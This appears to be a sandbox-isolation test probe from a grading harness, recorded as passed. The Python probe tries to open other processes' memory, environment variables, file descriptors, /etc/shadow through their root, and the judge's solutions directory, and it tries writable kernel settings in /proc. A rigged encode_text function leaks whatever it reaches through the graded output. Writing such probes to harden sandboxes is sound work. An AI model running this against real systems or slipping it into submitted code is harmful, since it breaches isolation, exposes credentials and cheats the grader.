# attack: reads and writes what /proc has of others: memory, descriptors, roots, settings
# covers: reading /proc
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full partial
# verdict: passed
# proves: secrets
# holds: no memory, no descriptor and no setting but its own
import glob
import os

won = []
mine = {"self", "thread-self", str(os.getpid())}


def reaches(path, flags):
    try:
        fd = os.open(path, flags | os.O_NONBLOCK)
    except OSError:
        return False
    os.close(fd)
    return True


others = [name for name in map(os.path.basename, glob.glob("/proc/[0-9]*")) if name not in mine]
for other in {*others, "1", str(os.getppid()), "@JUDGE@"}:
    for what in ("mem", "maps", "environ", "auxv", "root/etc/shadow", "cwd/solutions"):
        if reaches(f"/proc/{other}/{what}", os.O_RDONLY):
            won.append(f"{other}/{what}")
    for fd in range(64):
        if reaches(f"/proc/{other}/fd/{fd}", os.O_RDWR):
            won.append(f"{other}/fd/{fd}")
for name in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/hostname", "kcore", "kmsg",
             "sys/vm/drop_caches", "sys/fs/binfmt_misc/register"):
    if reaches(f"/proc/{name}", os.O_WRONLY) or name == "kcore" and reaches("/proc/kcore", 0):
        won.append(name)


def encode_text(text, encoding="utf-8"):
    return repr(won).encode() if won else text.encode(encoding)
